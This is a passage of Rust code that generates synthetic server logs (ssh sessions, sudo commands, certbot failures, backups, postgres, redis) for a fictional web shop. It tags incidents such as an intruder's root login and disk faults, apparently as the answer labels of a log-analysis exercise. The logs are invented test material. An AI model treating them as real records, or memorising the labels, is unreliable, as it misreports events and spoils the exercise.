    plan.push(s);
    let t = g.cert_fix_t;
    let s = answer(
        g,
        t - 5 * MIN,
        vec![
            (
                t - 4 * MIN,
                "/usr/bin/vim /etc/nginx/sites-available/bergmann-tee.de",
            ),
            (t - 2 * MIN, "/usr/sbin/nginx -t"),
            (t, "/usr/bin/certbot renew --cert-name bergmann-tee.de"),
        ],
    );
    plan.push(s);
    let t = g.upstream_t + 14 * MIN;
    let s = answer(
        g,
        t - 4 * MIN,
        vec![
            (t - 3 * MIN, "/usr/bin/htop"),
            (t - 2 * MIN, "/usr/bin/tail -n 200 /var/log/nginx/error.log"),
            (t - 3 * SEC, "/usr/bin/systemctl restart php8.2-fpm"),
        ],
    );
    plan.push(s);
    let t = g.disk_t + g.ms(5 * 3_600_000, 7 * 3_600_000);
    let s = answer(
        g,
        t,
        vec![
            (t + MIN, "/usr/bin/umount /srv/backup"),
            (t + 2 * MIN, "/usr/sbin/e2fsck -f -y /dev/sdb"),
            (t + 9 * MIN, "/usr/bin/mount /srv/backup"),
        ],
    );
    plan.push(s);
    // The intruder's root login.
    let ip = g.public_ip();
    let t = g.root_t;
    let end = t + g.ms(4 * 60_000, 25 * 60_000);
    plan.push(Session {
        user: 5,
        start: t,
        end,
        ip,
        tty: true,
        sudo: vec![],
        label: Some("root-login"),
        routine: false,
    });

    // One user's sessions never overlap: a planned one wins over a routine login.
    let (mut kept, routine): (Vec<Session>, Vec<Session>) =
        plan.into_iter().partition(|s| !s.routine);
    let mut routine = routine;
    routine.sort_by_key(|s| s.start);
    for s in routine {
        let clash = kept
            .iter()
            .any(|k| k.user == s.user && s.start < k.end + 30 * SEC && k.start < s.end + 30 * SEC);
        if !clash {
            kept.push(s);
        }
    }
    kept.sort_by_key(|s| s.start);
    g.sessions = kept;
}

/// Every ssh session: sshd, pam, logind, the user manager, sudo.
fn sessions(g: &mut Gen) {
    let list = std::mem::take(&mut g.sessions);
    let mut no: u32 = 1_700 + g.r.range(0, 400) as u32;
    // A user's manager stays up while sessions follow within 10 s.
    for (i, s) in list.iter().enumerate() {
        no += 1;
        let prev_end = list[..i]
            .iter()
            .filter(|k| k.user == s.user)
            .map(|k| k.end)
            .max();
        let next_start = list[i + 1..]
            .iter()
            .find(|k| k.user == s.user)
            .map(|k| k.start);
        let start_manager = prev_end.is_none_or(|e| s.start > e + 10 * SEC);
        let stop_manager = next_start.is_none_or(|n| n > s.end + 10 * SEC);
        session(g, s, no, start_manager, stop_manager);
    }
}

fn session(g: &mut Gen, s: &Session, no: u32, start_manager: bool, stop_manager: bool) {
    let u = g.users[s.user].clone();
    let l = s.label;
    let (name, uid) = (u.name, u.uid);
    let port = g.r.range(32_768, 60_999);
    let p = g.pid_at(s.start - 300 * MS);
    let mut t = s.start;
    let how = if u.key.is_empty() {
        "password".to_owned()
    } else {
        "publickey".to_owned()
    };
    let key = if u.key.is_empty() {
        String::new()
    } else {
        format!(": {}", u.key)
    };
    g.push(
        t,
        "sshd",
        Some(p),
        format!(
            "Accepted {how} for {name} from {} port {port} ssh2{key}",
            s.ip
        ),
        l,
    );
    t += g.ms(8, 30);
    g.push(
        t,
        "sshd",
        Some(p),
        format!("pam_unix(sshd:session): session opened for user {name}(uid={uid}) by (uid=0)"),
        l,
    );
    t += g.ms(5, 20);
    g.push(
        t,
        "systemd-logind",
        Some(g.logind),
        format!("New session {no} of user {name}."),
        l,
    );
    let um = g.pid_at(t);
    if start_manager {
        t += g.ms(1, 5);
        g.sd(
            t,
            format!("Created slice user-{uid}.slice - User Slice of UID {uid}."),
            l,
        );
        g.sd(
            t + 300,
            format!("Starting user-runtime-dir@{uid}.service - User Runtime Directory /run/user/{uid}..."),
            l,
        );
        t += g.ms(5, 15);
        g.sd(
            t,
            format!(
                "Finished user-runtime-dir@{uid}.service - User Runtime Directory /run/user/{uid}."
            ),
            l,
        );
        g.sd(
            t + 400,
            format!("Starting user@{uid}.service - User Manager for UID {uid}..."),
            l,
        );
        t += g.ms(5, 15);
        g.push(
            t,
            "(systemd)",
            Some(um),
            format!("pam_unix(systemd-user:session): session opened for user {name}(uid={uid}) by (uid=0)"),
            l,
        );
        for m in [
            "Queued start job for default target default.target.",
            "Created slice app.slice - User Application Slice.",
            "Reached target basic.target - Basic System.",
            "Reached target default.target - Main User Target.",
        ] {
            t += g.ms(1, 20);
            g.push(t, "systemd", Some(um), m.to_owned(), l);
        }
        t += g.ms(1, 5);
        let took = g.r.range(60, 190);
        g.push(
            t,
            "systemd",
            Some(um),
            format!("Startup finished in {took}ms."),
            l,
        );
        g.sd(
            t + 500,
            format!("Started user@{uid}.service - User Manager for UID {uid}."),
            l,
        );
    }
    t += g.ms(2, 10);
    g.sd(
        t,
        format!("Started session-{no}.scope - Session {no} of User {name}."),
        l,
    );

    let pts = g.r.pick(&[0, 0, 0, 1, 1, 2]);
    for (at, pwd, cmd, who) in &s.sudo {
        let sp = g.pid_at(*at);
        let cmd = if cmd.ends_with("BACKEND") {
            cmd.replace("BACKEND", &g.pid_at(*at - 40 * MIN).to_string())
        } else {
            cmd.clone()
        };
        let tty = if s.tty {
            format!("TTY=pts/{pts} ; ")
        } else {
            "TTY=unknown ; ".to_owned()
        };
        let run_as = if *who == "postgres" {
            "postgres"
        } else {
            "root"
        };
        let run_uid = if run_as == "postgres" { 105 } else { 0 };
        let cmd = if run_as == "postgres" {
            cmd
        } else {
            cmd.to_owned()
        };
        g.push(
            *at,
            "sudo",
            Some(sp),
            format!("{name:>8} : {tty}PWD={pwd} ; USER={run_as} ; COMMAND={cmd}"),
            l,
        );
        g.push(
            *at + 2 * MS,
            "sudo",
            Some(sp),
            format!("pam_unix(sudo:session): session opened for user {run_as}(uid={run_uid}) by {name}(uid={uid})"),
            l,
        );
        let long = cmd.contains("vim")
            || cmd.contains("less")
            || cmd.contains("htop")
            || cmd.contains("psql")
            || cmd.contains("tail -f")
            || cmd.contains("e2fsck");
        let dur = if long {
            g.ms(20_000, 400_000)
        } else {
            g.ms(40, 4_000)
        };
        g.push(
            *at + dur,
            "sudo",
            Some(sp),
            format!("pam_unix(sudo:session): session closed for user {run_as}"),
            l,
        );
        if cmd.contains("psql") {
            let bp = g.pid_at(*at + 30 * MS);
            let c = *at + 30 * MS;
            g.pg(
                c,
                bp,
                1,
                "[unknown]@[unknown] LOG:  connection received: host=[local]".to_owned(),
                l,
            );
            g.pg(c + 2 * MS, bp, 1, "postgres@shop LOG:  connection authorized: user=postgres database=shop application_name=psql".to_owned(), l);
            let secs = (dur - 100 * MS) / SEC;
            g.pg(
                *at + dur - 50 * MS,
                bp,
                1,
                format!(
                    "postgres@shop LOG:  disconnection: session time: {}:{:02}:{:02}.{:03} user=postgres database=shop host=[local]",
                    secs / 3600,
                    secs / 60 % 60,
                    secs % 60,
                    g.r.below(1000)
                ),
                l,
            );
        }
        if cmd.starts_with("/usr/sbin/useradd") {
            let new = g.users[4].clone();
            let up = g.pid_at(*at + 5 * MS);
            let n = new.name;
            let id = new.uid;
            for (k, m) in [
                format!("new group: name={n}, GID={id}"),
                format!("new user: name={n}, UID={id}, GID={id}, home=/home/{n}, shell=/bin/bash, from=/dev/pts/{pts}"),
                format!("add '{n}' to group 'developers'"),
                format!("add '{n}' to shadow group 'developers'"),
            ]
            .into_iter()
            .enumerate()
            {
                g.push(*at + (10 + k as u64) * MS, "useradd", Some(up), m, l);
            }
        }
        if cmd.contains("enable --now shop-feed-export.timer") {
            g.sd(*at + 150 * MS, "Reloading.".to_owned(), l);
            g.sd(
                *at + 600 * MS,
                "Started shop-feed-export.timer - Hourly product feed export.".to_owned(),
                l,
            );
        }
    }

    let e = s.end;
    let p2 = g.pid_at(s.start);
    g.push(
        e,
        "sshd",
        Some(p2),
        format!(
            "Received disconnect from {} port {port}:11: disconnected by user",
            s.ip
        ),
        l,
    );
    g.push(
        e + MS,
        "sshd",
        Some(p2),
        format!("Disconnected from user {name} {} port {port}", s.ip),
        l,
    );
    g.push(
        e + 3 * MS,
        "sshd",
        Some(p),
        format!("pam_unix(sshd:session): session closed for user {name}"),
        l,
    );
    g.sd(
        e + 5 * MS,
        format!("session-{no}.scope: Deactivated successfully."),
        l,
    );
    let cpu = if s.tty {
        g.r.range(80, 9_000)
    } else {
        g.r.range(300, 25_000)
    };
    g.consumed(e + 6 * MS, &format!("session-{no}.scope"), cpu, l);
    g.push(
        e + 8 * MS,
        "systemd-logind",
        Some(g.logind),
        format!("Session {no} logged out. Waiting for processes to exit."),
        l,
    );
    g.push(
        e + 10 * MS,
        "systemd-logind",
        Some(g.logind),
        format!("Removed session {no}."),
        l,
    );
    if stop_manager {
        let mut t = e + 10 * SEC + g.ms(1, 80);
        g.sd(
            t,
            format!("Stopping user@{uid}.service - User Manager for UID {uid}..."),
            l,
        );
        for m in [
            "Activating special unit exit.target...",
            "Stopped target default.target - Main User Target.",
            "Finished systemd-exit.service - Exit the Session.",
            "Reached target exit.target - Exit the Session.",
        ] {
            t += g.ms(1, 10);
            g.push(t, "systemd", Some(um), m.to_owned(), l);
        }
        t += g.ms(5, 30);
        g.sd(
            t,
            format!("user@{uid}.service: Deactivated successfully."),
            l,
        );
        g.sd(
            t + 100,
            format!("Stopped user@{uid}.service - User Manager for UID {uid}."),
            l,
        );
        t += g.ms(5, 30);
        g.sd(
            t,
            format!(
                "Stopped user-runtime-dir@{uid}.service - User Runtime Directory /run/user/{uid}."
            ),
            l,
        );
        g.sd(
            t + 500,
            format!("Removed slice user-{uid}.slice - User Slice of UID {uid}."),
            l,
        );
        let cpu = g.r.range(200, 12_000);
        g.consumed(t + 900, &format!("user-{uid}.slice"), cpu, l);
    }
}

/// systemd timers: logrotate, dpkg-db-backup, man-db, apt, tmpfiles, fstrim, e2scrub,
/// phpsessionclean, and the new feed export.
fn timers(g: &mut Gen) {
    let man_db_at = g.ms(0, 10 * 3_600_000);
    let tmpfiles_at = g.ms(0, 24 * 3_600_000);
    for d in 0..NDAYS {
        let s = day_start(d);
        let t = s + g.ms(0, 900);
        let dur = g.ms(800, 4_000);
        let cpu = g.r.range(300, 1_500);
        let end = g.oneshot(t, "logrotate.service", "Rotate log files", dur / MS, cpu);
        g.push(
            end - 300 * MS,
            "rsyslogd",
            Some(g.rsyslog),
            format!("[origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"{}\" x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed", g.rsyslog),
            None,
        );
        let t = s + g.ms(0, 900);
        let cpu = g.r.range(20, 90);
        g.oneshot(
            t,
            "dpkg-db-backup.service",
            "Daily dpkg database backup service",
            cpu + 30,
            cpu,
        );
        let t = s + man_db_at + g.ms(0, 60_000);
        let dur = g.ms(300, 12_000) / MS;
        g.oneshot(
            t,
            "man-db.service",
            "Daily man-db regeneration",
            dur,
            dur * 7 / 10,
        );
        let t = s + tmpfiles_at + g.ms(0, 2_000);
        let cpu = g.r.range(10, 60);
        g.oneshot(
            t,
            "systemd-tmpfiles-clean.service",
            "Cleanup of Temporary Directories",
            cpu + 20,
            cpu,
        );
        for h in [6u64, 18] {
            let t = s + h * HOUR + g.ms(0, 12 * 3_600_000);
            if t >= s + DAY {
                continue;
            }
            let dur = g.ms(2_000, 40_000) / MS;
            let cpu = dur / 3;
            g.oneshot(
                t,
                "apt-daily.service",
                "Daily apt download activities",
                dur,
                cpu,
            );
        }
        let t = s + 6 * HOUR + g.ms(0, 3_600_000);
        let t = if d == (g.upgrade_t - T0) / DAY {
            g.upgrade_t
        } else {
            t
        };
        if t != g.upgrade_t {
            let dur = g.ms(3_000, 25_000) / MS;
            g.oneshot(
                t,
                "apt-daily-upgrade.service",
                "Daily apt upgrade and clean activities",
                dur,
                dur / 2,
            );
        }
        for h in 0..24 {
            for m in [9u64, 39] {
                let t = s + h * HOUR + m * MIN + g.ms(0, 300);
                let cpu = g.r.range(8, 45);
                g.oneshot(
                    t,
                    "phpsessionclean.service",
                    "Clean php session files",
                    cpu + 15,
                    cpu,
                );
            }
            let t = s + h * HOUR + 15 * MIN + g.ms(0, 2_000);
            if t > g.new_timer_t {
                feed_export(g, t);
            }
        }
    }
    // fstrim on Monday, e2scrub_all on Sunday.
    let t = day_start(0) + g.ms(0, 6_000_000);
    g.sd(
        t,
        "Starting fstrim.service - Discard unused blocks on filesystems from /etc/fstab..."
            .to_owned(),
        None,
    );
    let fp = g.pid_at(t);
    let gib = 8.0 + 10.0 * g.r.unit();
    g.push(
        t + 2 * SEC,
        "fstrim",
        Some(fp),
        format!(
            "/: {gib:.1} GiB ({} bytes) trimmed on /dev/nvme0n1p1",
            (gib * 1_073_741_824.0) as u64
        ),
        None,
    );
    g.push(
        t + 2 * SEC + 20 * MS,
        "fstrim",
        Some(fp),
        "/boot/efi: 116.4 MiB (122069504 bytes) trimmed on /dev/nvme0n1p15".to_owned(),
        None,
    );
    g.sd(
        t + 2 * SEC + 40 * MS,
        "fstrim.service: Deactivated successfully.".to_owned(),
        None,
    );
    g.sd(
        t + 2 * SEC + 60 * MS,
        "Finished fstrim.service - Discard unused blocks on filesystems from /etc/fstab."
            .to_owned(),
        None,
    );
    let t = day_start(6) + 3 * HOUR + 10 * MIN + g.ms(0, 1_000);
    g.oneshot(
        t,
        "e2scrub_all.service",
        "Online ext4 Metadata Check for All Filesystems",
        60,
        20,
    );
}

fn feed_export(g: &mut Gen, t: u64) {
    let unit = "shop-feed-export.service";
    let desc = "Export product feed";
    g.sd(t, format!("Starting {unit} - {desc}..."), None);
    let dur = g.ms(2_500, 9_000);
    let p = g.pid_at(t);
    let n = 1_180 + g.r.below(40);
    g.push(
        t + dur - 5 * MS,
        "php",
        Some(p),
        format!(
            "Exported {n} products to /var/www/shop/public/feeds/google.xml in {:.1} s",
            (dur / MS) as f64 / 1000.0
        ),
        None,
    );
    g.sd(t + dur, format!("{unit}: Deactivated successfully."), None);
    g.sd(t + dur + 200, format!("Finished {unit} - {desc}."), None);
    let cpu = dur / MS * 8 / 10;
    g.consumed(t + dur + 400, "{unit}", cpu, None);
}

/// certbot.timer twice a day; certbot's own output, and on one day a failing renewal.
fn certbot(g: &mut Gen) {
    // Due (30 days before expiry) on the failing day; renewed by hand that evening.
    let expiry_before = day_start(g.cert_fail_day) + 30 * DAY + 7 * HOUR;
    let expiry_after = g.cert_fix_t + 90 * DAY;
    for d in 0..NDAYS {
        for half in [0u64, 12] {
            let t = day_start(d) + half * HOUR + g.ms(0, 12 * 3_600_000);
            let failing = d == g.cert_fail_day && t < g.cert_fix_t;
            let l = if failing { Some("cert-expired") } else { None };
            g.sd(t, "Starting certbot.service - Certbot...".to_owned(), None);
            let p = g.pid_at(t);
            let c = Cell::new(t + g.ms(600, 1_400));
            let out = |g: &mut Gen, m: &str, lab: Option<&'static str>| {
                c.set(c.get() + g.ms(1, 40));
                g.push(c.get(), "certbot", Some(p), m.to_owned(), lab);
            };
            out(
                g,
                "Saving debug log to /var/log/letsencrypt/letsencrypt.log",
                None,
            );
            out(g, SEP, None);
            out(
                g,
                &format!("Processing /etc/letsencrypt/renewal/{DOMAIN}.conf"),
                None,
            );
            out(g, SEP, None);
            if failing {
                c.set(c.get() + g.ms(4_000, 12_000));
                out(
                    g,
                    &format!("Renewing an existing certificate for {DOMAIN} and www.{DOMAIN}"),
                    None,
                );
                c.set(c.get() + g.ms(3_000, 9_000));
                let token = g.r.b64(43).replace(['+', '/'], "_");
                for m in [
                    "Certbot failed to authenticate some domains (authenticator: nginx). The Certificate Authority reported these problems:".to_owned(),
                    format!("  Domain: www.{DOMAIN}"),
                    "  Type:   unauthorized".to_owned(),
                    format!("  Detail: {}: Invalid response from http://www.{DOMAIN}/.well-known/acme-challenge/{token}: 404", g.srv_ip),
                    "Hint: The Certificate Authority failed to verify the temporary nginx configuration changes made by Certbot. Ensure the listed domains point to this nginx server and that it is accessible from the internet.".to_owned(),
                    format!("Failed to renew certificate {DOMAIN} with error: Some challenges have failed."),
                ] {
                    out(g, &m, l);
                }
                out(g, SEP, None);
                out(
                    g,
                    "All renewals failed. The following certificates could not be renewed:",
                    l,
                );
                out(
                    g,
                    &format!("  /etc/letsencrypt/live/{DOMAIN}/fullchain.pem (failure)"),
                    l,
                );
                out(g, SEP, None);
                out(g, "1 renew failure(s), 0 parse failure(s)", l);
                out(g, "Ask for help or search for solutions at https://community.letsencrypt.org. See the logfile /var/log/letsencrypt/letsencrypt.log or re-run Certbot with -v for more details.", l);
                c.set(c.get() + g.ms(50, 200));
                g.sd(
                    c.get(),
                    "certbot.service: Main process exited, code=exited, status=1/FAILURE"
                        .to_owned(),
                    l,
                );
                g.sd(
                    c.get() + 300,
                    "certbot.service: Failed with result 'exit-code'.".to_owned(),
                    l,
                );
                g.sd(
                    c.get() + 600,
                    "Failed to start certbot.service - Certbot.".to_owned(),
                    l,
                );
                let cpu = g.r.range(2_000, 4_000);
                g.consumed(c.get() + 900, "certbot.service", cpu, None);
                continue;
            }
            let expiry = if t < g.cert_fix_t {
                expiry_before
            } else {
                expiry_after
            };
            out(g, "Certificate not yet due for renewal", None);
            out(g, SEP, None);
            out(
                g,
                "The following certificates are not due for renewal yet:",
                None,
            );
            out(
                g,
                &format!(
                    "  /etc/letsencrypt/live/{DOMAIN}/fullchain.pem expires on {} (skipped)",
                    date(expiry)
                ),
                None,
            );
            out(g, "No renewals were attempted.", None);
            out(g, SEP, None);
            c.set(c.get() + g.ms(20, 80));
            g.sd(
                c.get(),
                "certbot.service: Deactivated successfully.".to_owned(),
                None,
            );
            g.sd(
                c.get() + 200,
                "Finished certbot.service - Certbot.".to_owned(),
                None,
            );
            let cpu = g.r.range(700, 1_600);
            g.consumed(c.get() + 400, "certbot.service", cpu, None);
        }
    }
    // The evening fix: the deploy hook reloads nginx.
    nginx_reload(g, g.cert_fix_t + 3 * MIN - 200 * MS);
}

fn nginx_reload(g: &mut Gen, t: u64) {
    let desc = "A high performance web server and a reverse proxy server";
    g.sd(t, format!("Reloading nginx.service - {desc}..."), None);
    g.sd(
        t + g.ms(30, 120),
        format!("Reloaded nginx.service - {desc}."),
        None,
    );
}

/// Cron jobs: the shop's `cron:run` every five minutes.
fn cron(g: &mut Gen) {
    let mut t = T0 + 5 * MIN;
    while t < T_END {
        let at = t + g.ms(0, 400);
        let hour_mark = (t - T0).is_multiple_of(HOUR);
        let dur = if hour_mark && ((t - T0) / HOUR).is_multiple_of(2) {
            g.ms(20_000, 80_000)
        } else {
            g.ms(800, 6_000)
        };
        let noisy = g.r.chance(0.012);
        cron_job(g, at, "www-data", 33, CRON_RUN, dur, noisy, None);
        if hour_mark && ((t - T0) / HOUR).is_multiple_of(2) && !g.in_outage(at + 2 * SEC) {
            // The ERP stock sync, every two hours, uses the database.
            let p = g.pid_at(at + 20 * MS);
            let bp = g.pid_at(at + 900 * MS);
            let c = at + 900 * MS;
            pg_connect(g, c, bp, "shop", "shop", "", at + dur - 200 * MS);
            let n = g.r.range(0, 60);
            let ms = (dur - SEC) / MS;
            g.push(
                at + dur - 300 * MS,
                "shop",
                Some(p),
                format!("cron.INFO: Scheduled task erp.stock-sync finished {{\"duration_ms\":{ms},\"updated\":{n}}} []"),
                None,
            );
        }
        t += 5 * MIN;
    }
}

/// One cron job: pam session, CMD, optional "No MTA" note, session closed.
fn cron_job(
    g: &mut Gen,
    t: u64,
    user: &str,
    uid: u32,
    cmd: &str,
    dur: u64,
    output: bool,
    label: Option<&'static str>,
) {
    let p = g.pid_at(t);
    g.push(
        t,
        "CRON",
        Some(p),
        format!("pam_unix(cron:session): session opened for user {user}(uid={uid}) by (uid=0)"),
        None,
    );
    g.push(
        t + 3 * MS,
        "CRON",
        Some(p + 1),
        format!("({user}) CMD ({cmd})"),
        label,
    );
    if output {
        g.push(
            t + dur - MS,
            "CRON",
            Some(p),
            "(CRON) info (No MTA installed, discarding output)".to_owned(),
            None,
        );
    }
    g.push(
        t + dur,
        "CRON",
        Some(p),
        format!("pam_unix(cron:session): session closed for user {user}"),
        None,
    );
}

/// connection received / authorized, and the disconnection at `end`.
fn pg_connect(g: &mut Gen, t: u64, bp: u32, user: &str, db: &str, app: &str, end: u64) {
    let port = g.r.range(32_768, 60_999);
    g.pg(
        t,
        bp,
        1,
        format!("[unknown]@[unknown] LOG:  connection received: host=127.0.0.1 port={port}"),
        None,
    );
    let app = if app.is_empty() {
        String::new()
    } else {
        format!(" application_name={app}")
    };
    g.pg(
        t + 3 * MS,
        bp,
        1,
        format!("{user}@{db} LOG:  connection authorized: user={user} database={db}{app} SSL enabled (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)"),
        None,
    );
    let ms = (end - t) / MS;
    g.pg(
        end,
        bp,
        1,
        format!(
            "{user}@{db} LOG:  disconnection: session time: {}:{:02}:{:02}.{:03} user={user} database={db} host=127.0.0.1 port={port}",
            ms / 3_600_000,
            ms / 60_000 % 60,
            ms / 1000 % 60,
            ms % 1000
        ),
        None,
    );
}

/// The nightly pg_dump by `backup`, at 02:30, to the backup volume.
fn backup(g: &mut Gen) {
    for d in 0..NDAYS {
        let t = day_start(d) + 2 * HOUR + 30 * MIN + g.ms(0, 300);
        let failing = d == (g.disk_t - T0) / DAY;
        let dur = if failing {
            g.disk_t - t + g.ms(30_000, 90_000)
        } else {
            g.ms(70_000, 140_000)
        };
        cron_job(
            g,
            t,
            "backup",
            34,
            "/usr/local/bin/pg-backup.sh",
            dur,
            failing,
            None,
        );
        let bp = g.pid_at(t + 200 * MS);
        pg_connect(
            g,
            t + 150 * MS,
            bp,
            "backup",
            "shop",
            "pg_dump",
            t + dur - 2 * SEC,
        );
        let lp = g.pid_at(t + dur - SEC);
        if failing {
            g.push(
                t + dur - SEC,
                "pg-backup",
                Some(lp),
                "pg_dump: error: could not write to output file: Input/output error".to_owned(),
                Some("disk"),
            );
            g.push(
                t + dur - SEC + 5 * MS,
                "pg-backup",
                Some(lp),
                "backup of shop FAILED (pg_dump exit 1), see /var/log/postgresql/pg-backup.log"
                    .to_owned(),
                Some("disk"),
            );
            continue;
        }
        let mb = 380 + d * 4 + g.r.below(6);
        let secs = (dur / SEC).saturating_sub(3);
        g.push(
            t + dur - SEC,
            "pg-backup",
            Some(lp),
            format!(
                "dump of shop finished: {mb} MB in {secs} s, /srv/backup/pg/shop-{}.dump",
                date(t)
            ),
            None,
        );
        g.push(
            t + dur - SEC + 20 * MS,
            "pg-backup",
            Some(lp),
            format!(
                "removed 1 dump older than 14 days: shop-{}.dump",
                date(t - 14 * DAY)
            ),
            None,
        );
    }
}

/// php-fpm's pool: children recycled after pm.max_requests, each holding one persistent
/// postgres connection.
fn php_fpm(g: &mut Gen) {
    for t in g.arrivals(2.0, web) {
        if g.in_outage(t) {
            continue;
        }
        let master = g.fpm.at(t);
        let (since, _) = g.fpm.since(t);
        let life_ms = g.r.range(20 * 60_000, 9 * 3_600_000);
        let life_ms = life_ms.min((t - since.max(T0 - 20 * HOUR)) / MS);
        let old = g.pid_at(t - life_ms * MS);
        g.push(
            t,
            "php-fpm",
            Some(master),
            format!(
                "[NOTICE] [pool www] child {old} exited with code 0 after {}.{:06} seconds from start",
                life_ms / 1000,
                life_ms % 1000 * 1000 + g.r.below(1000)
            ),
            None,
        );
        let new = g.pid_at(t + 2 * MS);
        g.push(
            t + 2 * MS,
            "php-fpm",
            Some(master),
            format!("[NOTICE] [pool www] child {new} started"),
            None,
        );
        // The old child's connection ends; the new one connects on its first request.
        let obp = old + 1 + g.r.below(3) as u32;
        let port = g.r.range(32_768, 60_999);
        let ms = life_ms.saturating_sub(400);
        g.pg(
            t + MS,
            obp,
            1,
            format!(
                "shop@shop LOG:  disconnection: session time: {}:{:02}:{:02}.{:03} user=shop database=shop host=127.0.0.1 port={port}",
                ms / 3_600_000,
                ms / 60_000 % 60,
                ms / 1000 % 60,
                ms % 1000
            ),
            None,
        );
        let c = t + g.ms(300, 90_000);
        let bp = g.pid_at(c);
        let port = g.r.range(32_768, 60_999);
        g.pg(
            c,
            bp,
            1,
            format!("[unknown]@[unknown] LOG:  connection received: host=127.0.0.1 port={port}"),
            None,
        );
        g.pg(
            c + 3 * MS,
            bp,
            1,
            "shop@shop LOG:  connection authorized: user=shop database=shop SSL enabled (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)".to_owned(),
            None,
        );
    }
}

/// Checkpoints every 30 minutes when there was work, autovacuum and autoanalyze.
fn postgres(g: &mut Gen) {
    let mut t = T0 + g.ms(0, 1_800_000);
    let mut estimate = 3_000u64;
    while t < T_END {
        let busy = web(t);
        if !g.in_outage(t) && g.r.chance(0.35 + 0.65 * busy) {
            let cp = g.checkpointer.at(t);
            g.pg(t, cp, 1, "LOG:  checkpoint starting: time".to_owned(), None);
            let buffers = 8 + (g.r.below(900) as f64 * busy) as u64 + g.r.below(60);
            let write_ms = g.r.range(200, 1_600) * buffers.min(16) / 16
                + if buffers > 40 {
                    1_619_000 + g.r.below(900)
                } else {
                    0
                };
            let sync_ms = g.r.range(2, 40);
            let distance = buffers * 9 + g.r.below(400);
            estimate = (estimate * 9 + distance) / 10;
            let files = 3 + buffers / 12 + g.r.below(8);
            let end = t + (write_ms + sync_ms + 5) * MS;
            let cp_end = g.checkpointer.at(end);
            if cp_end == cp {
                g.pg(
                    end,
                    cp,
                    1,
                    format!(
                        "LOG:  checkpoint complete: wrote {buffers} buffers ({:.1}%); 0 WAL file(s) added, 0 removed, {} recycled; write={}.{:03} s, sync={}.{:03} s, total={}.{:03} s; sync files={files}, longest={}.{:03} s, average=0.{:03} s; distance={distance} kB, estimate={estimate} kB",
                        buffers as f64 * 100.0 / 16_384.0,
                        u64::from(distance > 12_000),
                        write_ms / 1000,
                        write_ms % 1000,
                        sync_ms / 1000,
                        sync_ms % 1000,
                        (write_ms + sync_ms + 5) / 1000,
                        (write_ms + sync_ms + 5) % 1000,
                        sync_ms / 1000,
                        sync_ms * 6 / 10 % 1000,
                        (sync_ms / files.max(1)).max(1)
                    ),
                    None,
                );
            }
        }
        t += 30 * MIN;
    }
    // Autovacuum and autoanalyze of the busy tables (log_autovacuum_min_duration = 250ms).
    for t in g.arrivals(0.18, web) {
        if g.in_outage(t) {
            continue;
        }
        let p = g.pid_at(t);
        let table = g.r.pick(&[
            "cart",
            "cart_line_item",
            "customer_session",
            "order",
            "order_line_item",
            "product_review",
        ]);
        if g.r.chance(0.55) {
            autovacuum(g, t, p, table);
        } else {
            let hits = g.r.range(300, 9_000);
            let el = g.r.range(26, 900);
            let lines = [
                format!("LOG:  automatic analyze of table \"shop.public.{table}\""),
                format!(
                    "\tavg read rate: {:.3} MB/s, avg write rate: {:.3} MB/s",
                    g.r.unit() * 3.0,
                    g.r.unit()
                ),
                format!(
                    "\tbuffer usage: {hits} hits, {} misses, {} dirtied",
                    g.r.below(300),
                    g.r.below(40)
                ),
                format!(
                    "\tsystem usage: CPU: user: 0.{:02} s, system: 0.00 s, elapsed: {}.{:03} s",
                    el / 20,
                    el / 1000,
                    el % 1000
                ),
            ];
            for (k, m) in lines.into_iter().enumerate() {
                g.pg(t, p, k as u32 + 1, m, None);
            }
        }
    }
}

fn autovacuum(g: &mut Gen, t: u64, p: u32, table: &str) {
    let pages = g.r.range(40, 4_000);
    let removed = g.r.range(200, 20_000);
    let remain = g.r.range(2_000, 90_000);
    let cutoff = 8_700_000 + (t - T0) / SEC / 20 + g.r.below(500);
    let idx_pages = pages * g.r.range(5, 60) / 100;
    let el = g.r.range(260, 4_000);
    let lines = [
        format!("LOG:  automatic vacuum of table \"shop.public.{table}\": index scans: 1"),
        format!("\tpages: 0 removed, {pages} remain, {pages} scanned (100.00% of total)"),
        format!("\ttuples: {removed} removed, {remain} remain, 0 are dead but not yet removable"),
        format!("\tremovable cutoff: {cutoff}, which was {} XIDs old when operation ended", g.r.below(4)),
        format!("\tindex scan needed: {idx_pages} pages from table ({:.2}% of total) had {removed} dead item identifiers removed", idx_pages as f64 * 100.0 / pages as f64),
        format!("\tindex \"{table}_pkey\": pages: {} in total, 0 newly deleted, 0 currently deleted, 0 reusable", pages / 8 + 2),
        format!("\tavg read rate: {:.3} MB/s, avg write rate: {:.3} MB/s", g.r.unit() * 4.0, g.r.unit() * 9.0),
        format!("\tbuffer usage: {} hits, {} misses, {} dirtied", pages * 3 + g.r.below(500), g.r.below(200), idx_pages + g.r.below(50)),
        format!("\tWAL usage: {} records, {} full page images, {} bytes", removed / 3 + g.r.below(200), idx_pages / 2, removed * 61 + g.r.below(9_000)),
        format!("\tsystem usage: CPU: user: 0.{:02} s, system: 0.{:02} s, elapsed: {}.{:03} s", el / 50 % 100, el / 200 % 100, el / 1000, el % 1000),
    ];
    for (k, m) in lines.into_iter().enumerate() {
        g.pg(t, p, k as u32 + 1, m, None);
    }
}

/// redis (a cache; sessions live in postgres): `save 3600 1`, a background save in the hours
/// the cache changed.
fn redis(g: &mut Gen) {
    let mut t = T0 + g.ms(0, 3_600_000);
    while t < T_END {
        if g.r.chance(0.1 + 0.45 * web(t)) {
            let in_fault = (g.diskfull_t..g.diskfull_fix_t).contains(&t);
            let child = g.pid_at(t + MS);
            let rp = g.redis;
            g.push(
                t,
                "redis-server",
                Some(rp),
                "1 changes in 3600 seconds. Saving...".to_owned(),
                None,
            );
            g.push(
                t + MS,
                "redis-server",
                Some(rp),
                format!("Background saving started by pid {child}"),
                None,
            );
            let d = g.ms(20, 160);
            if in_fault {
                g.push(
                    t + d,
                    "redis-server",
                    Some(child),
                    "Write error saving DB on disk: No space left on device".to_owned(),
                    Some("disk-full"),
                );
                g.push(
                    t + d + 100 * MS,
                    "redis-server",
                    Some(rp),
                    "Background saving error".to_owned(),
                    Some("disk-full"),
                );
            } else {
                let mb = g.r.below(3);
                g.push(
                    t + d,
                    "redis-server",
                    Some(child),
                    "DB saved on disk".to_owned(),
